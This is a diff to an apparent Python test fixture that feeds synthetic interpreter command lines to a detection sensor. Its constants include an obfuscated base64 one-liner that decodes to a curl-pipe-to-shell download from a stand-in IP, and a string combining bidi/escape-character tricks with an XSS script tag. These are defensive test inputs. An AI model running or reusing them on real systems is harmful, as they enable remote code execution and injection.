@@ -16,7 +16,14 @@ if TYPE_CHECKING:
 NOW = dt.datetime(2026, 11, 30, 12, tzinfo=dt.UTC).timestamp()
 HOSTILE = "print '\u202ehidden\x1b[31m\u200b'; # </code><script>alert(1)</script>"
 DECODED = "import base64; exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgLXMgaHR0cDovLzE5OC41MS4xMDAuNy94IHwgc2giKQ=='))"
-CI = {"ci__system": "github", "ci__repository": "acme/shop", "ci__workflow": "build.yml", "ci__job": "build", "ci__run": "7", "environment": "ci"}
+CI = {
+    "ci__system": "github",
+    "ci__repository": "acme/shop",
+    "ci__workflow": "build.yml",
+    "ci__job": "build",
+    "ci__run": "7",
+    "environment": "ci",
+}
 
 
 def seen(number: int, *argv: str, hours: float, **context: str) -> Event:
@@ -29,14 +36,19 @@ def seen(number: int, *argv: str, hours: float, **context: str) -> Event:
 
 
 def story() -> list[Event]:
-    quiet = [notice("started", host="web-9", count=0, place="", text="the sensor has started", time="2026-11-20T10:00:00Z")]
+    quiet = [
+        notice("started", host="web-9", count=0, place="", text="the sensor has started", time="2026-11-20T10:00:00Z")
+    ]
     return [
         seen(1, "perl", "-e", LOUD, hours=2, host__name="ci-1", **CI),
         seen(2, "perl", "-e", LOUD, hours=30, host__name="ci-2", **CI),
         seen(3, "python3", "-c", DECODED, hours=1, host__name="web-1", environment="production"),
         seen(4, "perl", "-e", HOSTILE, hours=4, host__name="web-1"),
         seen(5, "ruby", "-e", "puts 1", hours=100, host__name="web-2"),
-        *(seen(10 + number, "node", "-e", f"console.log({number})", hours=5 + number, host__name="ci-1", **CI) for number in range(60)),
+        *(
+            seen(10 + number, "node", "-e", f"console.log({number})", hours=5 + number, host__name="ci-1", **CI)
+            for number in range(60)
+        ),
         structs.replace(notice(), host="ci-1"),
         *(structs.replace(each, host="web-9") for each in quiet),
     ]
